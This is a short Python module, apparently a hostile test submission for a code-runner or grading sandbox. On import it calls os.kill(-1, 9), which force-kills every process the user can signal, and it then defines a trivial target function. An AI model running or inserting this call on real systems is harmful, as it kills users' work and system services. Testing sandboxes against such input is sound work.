"""Kills all processes that it may kill. May cost the rest, too."""
import os

os.kill(-1, 9)


def target(x):
    return 0 * x
